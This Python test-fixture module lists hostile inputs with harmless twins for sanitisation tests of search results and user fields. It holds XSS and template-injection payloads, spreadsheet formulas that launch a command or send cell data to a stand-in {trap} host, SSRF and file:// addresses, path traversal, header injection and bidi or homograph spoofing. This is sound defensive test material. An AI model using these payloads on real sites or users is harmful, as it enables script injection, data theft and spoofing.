"""Hostile text for every place that takes text from outside: what search pages show, what people type.

Each attack has a harmless twin of the same kind, so that two records can be made that differ in nothing but this.
{trap} is where nobody may ever call: the address of a listener that counts.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Literal

Field = Literal[
    "title",
    "snippet",
    "url",
    "display_url",
    "echo",
    "final_url",
    "brand",
    "phrase",
    "annotation",
    "owned",
    "person",
    "report",
]
SHY = "<img src=http://{trap}/x onerror=alert(1)>"
LONG = 10_000
OUR_PROFILE = "our own profile, of a name with markup"


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile text. refused: it must not be stored at all; of a search page that is a link nobody may follow."""

    field: Field
    name: str
    text: str
    refused: bool = False

    def said(self, trap: str, *, hostile: bool) -> str:
        """The text itself, or its twin."""
        return self.text.replace("{trap}", trap) if hostile else self.twin

    @property
    def twin(self) -> str:
        """Harmless text of its kind; what is refused has a twin that is refused too."""
        number = [one.name for one in of(self.field)].index(self.name)
        if self.name == OUR_PROFILE:
            return f"{of('owned')[0].twin}/posts"
        if self.field == "url":
            return "about:blank" if self.refused else f"https://twin{number}.example/page"
        if self.field == "owned" and self.refused:
            return f"two words {number}"
        if self.field in ("final_url", "owned"):
            return f"https://social.example/{self.field}{number}"
        # The same first letter: a list in the order of names is then the same list.
        first = f"{self.text[0]} " if self.field == "brand" else ""
        return f"{first}Plain {self.field.replace('_', ' ')} of ordinary words, number {number}"


def _all() -> Iterator[Attack]:
    for field, refused, texts in _TEXTS:
        yield from (Attack(field, name, text, refused) for name, text in texts.items())


_MARKUP = {
    "a script": "<script>alert(1)</script> ordinary words",
    "a script after the title": "</title></textarea></style></script><script src=http://{trap}/a.js></script>",
    "a picture with a handler": SHY,
    "an attribute that ends": '"\'` onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "a drawing that loads": "<svg/onload=alert(1)><use href=http://{trap}/u.svg#a />",
    "a frame": "<iframe srcdoc='<script>parent.alert(1)</script>' src=http://{trap}/f></iframe>",
    "an element that ends early": "</bdi></span></li></ol></main><h1>Not ours</h1><form action=http://{trap}/>",
    "a style": "<style>@import url(http://{trap}/c.css);*{display:none}</style><link rel=stylesheet href=http://{trap}/l>",
    "a base and a refresh": "<base href=http://{trap}/><meta http-equiv=refresh content='0;url=http://{trap}/'>",
    "a comment and a CDATA": "<!-- <![CDATA[ ]]> --!> <![endif]--> ]]> -->",
    "a template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} %(x)s {0} {name.__class__}",
    "an entity that is one": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "half an entity": "&#0; &#xD800; &#x110000; &nosuch; & &amp &#",
    "a plus sign in UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- ordinary words",
}
_TURNED = {
    "an override": "abc \u202egnp.exe\u202c and \u202e never closed",
    "embeddings never closed": "one \u202b two \u202a three \u202d four",
    "isolates never closed": "one \u2067 two \u2066 three \u2068 four",
    "isolates closed too often": "one \u2069\u2069\u2069\u202c\u202c two \u200f\u200e\u061c three",
    "Hebrew with numbers at its ends": "12 \u05e9\u05dc\u05d5\u05dd (34) 56",
    "a paragraph within": "one\u2029\u202etwo\u2028three\x85four",
}
_UNSEEN = {
    "letters nobody sees": "a\u200bb\u200cc\u200dd\u2060e\u2063f\u206ag\ufeffh\u00adi\u180ej\u034fk\u115fl\u3164m",
    "tags nobody sees": "x\U000e0001\U000e0073\U000e0063\U000e0072y \ufff9z\ufffa\ufffb \ufe0f\U000e0100",
    "control characters": "a\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x1b]0;x\x07\x7f\x80\x9b31mb",
    "no characters at all": "a\ufffe\uffff\U0001ffffb",
}
_WIDE = {
    "ten thousand letters": "W" * LONG,
    "ten thousand letters with spaces": "wide words " * (LONG // 11),
    "marks piled up": "Z" + "\u0300\u0316\u0489" * 300 + "algo",
    "the widest letter": "\ufdfd" * 60,
}
_FORMULA = {
    "a formula": '=HYPERLINK("http://{trap}/?"&A1,"Error")',
    "a formula that calls": "=cmd|' /C calc'!A0",
    "a formula after a semicolon": "ordinary;=1+1;@SUM(A1)",
    "a formula in wide letters": "\uff1d1\uff0b1",
    "a formula behind a mark": "\ufeff\u200b\u2060 @SUM(1+1)",
}
_LINKS = {
    "a path that ends the attribute": "https://attr.example/\"onmouseover=alert(1)//'><script>alert(1)</script>",
    "a query with markup": "https://query.example/?q='\"><img src=x onerror=alert(1)>&lt;",
    "a fragment that is a script": "https://hash.example/#javascript:alert(1)",
    "a path that is a script": "https://path.example/javascript:alert(1)//",
    "a look-alike in Cyrillic": "https://n\u0430tiv-telecom.example/help",
    "a look-alike in Punycode": "https://xn--ntiv-telecom-x9j.example/other",
    "ours as a part of theirs": "https://nativ-telecom.example.impostor.example/",
    "ours within theirs": "https://not-nativ-telecom.example/",
    "ours in the query": "https://query2.example/?u=https://nativ-telecom.example/",
    "ours, reached by climbing": "https://social.example/nativtelecom/../impostor",
    "ours, reached by hidden climbing": "https://social.example/nativtelecom%2f..%2fhidden",
    "a very long address": "https://long.example/" + "a" * 3900,
    "scheme in capitals": "HTTPS://CAPITALS.EXAMPLE/\u05e9\u05dc\u05d5\u05dd",
    OUR_PROFILE: "https://facebook.com/%22%3E%3Cscript%3Ealert(1)%3Cx/posts",
    "a template in the path": "https://template.example/{{7*7}}/%25%7B7%7D/${x}",
}
_NO_LINKS = {
    "a script": "javascript:alert(1)", "a script in disguise": " jAvAsCrIpT:alert(1)//http://a.example/",
    "a script behind a control": "\x01javascript:alert(1)", "a script cut by a tab": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>", "another program": "vbscript:msgbox(1)",
    "a file": "file:///etc/passwd", "the browser's own": "chrome://settings", "a name before the host": "https://nativ-telecom.example@impostor.example/",
    "a backslash": "https://impostor.example\\@nativ-telecom.example/", "an address inside": "http://169.254.169.254/latest/",
    "an address as a number": "http://2130706433/", "this machine": "http://localhost:8000/", "an override": "https://a.example/\u202egpj.exe",
    "a very very long address": "https://long.example/" + "a" * LONG, "no host": "https:///x", "a slash in wide letters": "https://nativ-telecom.example\uff0fimpostor.example/",
}  # fmt: skip
_TEXTS: tuple[tuple[Field, bool, dict[str, str]], ...] = (
    ("title", False, _WIDE | _TURNED | _MARKUP | _UNSEEN | _FORMULA),
    ("snippet", False, {name: f"{text} and fifteen letters more" for name, text in (_WIDE | _TURNED | _MARKUP | _UNSEEN | _FORMULA).items()}),
    ("url", False, _LINKS),
    ("url", True, _NO_LINKS),
    ("display_url", False, {"a script": "<script>alert(1)</script> › \u202ex", "ours": "nativ-telecom.example › help", "long": "x" * LONG}),
    ("echo", False, {"a script": "\"><script>alert(1)</script>; Language: \u202ex" + SHY, "long": "other " * 2000}),
    ("final_url", False, {"a script": "https://www.google.com/search?q=\"><script>alert(1)</script>\u202e&" + SHY,
                          "a look-alike": "https://g\u043e\u043egle.example/search?q=x", "long": "https://www.google.com/search?q=" + "a" * LONG}),
    ("brand", False, {"a script": "<script>alert(1)</script>", "an attribute that ends": "\"'><b onclick=alert(1)>` x", "a formula": "=1+1;@SUM(A1)",
                      "a template": "{{7*7}} {0} %s", "a path": "../../../etc/passwd\\..", "wide": "W" * 120, "a percent sign": "%0d%0aSet-Cookie: a=b"}),
    ("brand", True, {"an override": "a\u202eb", "an isolate": "a\u2067b", "a line": "a\r\nSet-Cookie: a=b", "a tab": "a\tb", "a paragraph": "a\u2029b",
                     "nothing to see": "\u3164\u200f\u034f", "space": " \u00a0\u2003", "long": "W" * LONG, "half a pair": "a\ud800b", "tags": "a\U000e0041b", "a null": "a\x00b"}),
    ("phrase", False, {"all at once": "\"'><script>alert(1)</script>{{7*7}}=1+1&lt;"}),
    ("phrase", True, {"an override": "a\u202eb", "long": "w " * 200, "nothing to see": "\u200e\u200f"}),
    ("annotation", False, {"a script": "</text></svg><script>alert(1)</script>" + SHY.replace("{trap}", "a"), "a template": "{version} {count} {{7*7}}", "wide": "W" * 200, "Hebrew": "12 \u05e9\u05dc\u05d5\u05dd 34"}),
    ("annotation", True, {"an override": "a\u202eb", "long": "W" * 201, "nothing to see": "\u00ad\u2060"}),
    ("owned", False, {"a profile with markup": "facebook.com/\"><script>alert(1)<x", "a look-alike": "n\u0430tiv-group.example"}),
    ("owned", True, {"a script": "javascript:alert(1)", "markup": "<script>alert(1)</script>", "a shared host": "facebook.com/" + "?a" * LONG, "a suffix": "co.il/" + "a" * LONG,
                     "a name before the host": "https://a@nativ-telecom.example", "an override": "nativ\u202e.example", "a formula": "=1+1"}),
    ("person", False, {"a script": "<script>alert(1)</script>\"'", "wide": "W" * 80}),
    ("person", True, {"an override": "Dana \u202eb", "long": "W" * 81, "nothing to see": "\u200f"}),
    ("report", False, {"a script": "</style><script>alert(1)</script>", "a style": "\\'\";}*{display:none}"}),
    ("report", True, {"an override": "a\u202eb", "long": "W" * 81}),
)  # fmt: skip
ATTACKS: tuple[Attack, ...] = tuple(_all())


def of(field: Field, *, refused: bool | None = None) -> tuple[Attack, ...]:
    """The attacks on a field; refused: only those that must, or must not, be stored."""
    return tuple(one for one in ATTACKS if one.field == field and refused in (None, one.refused))
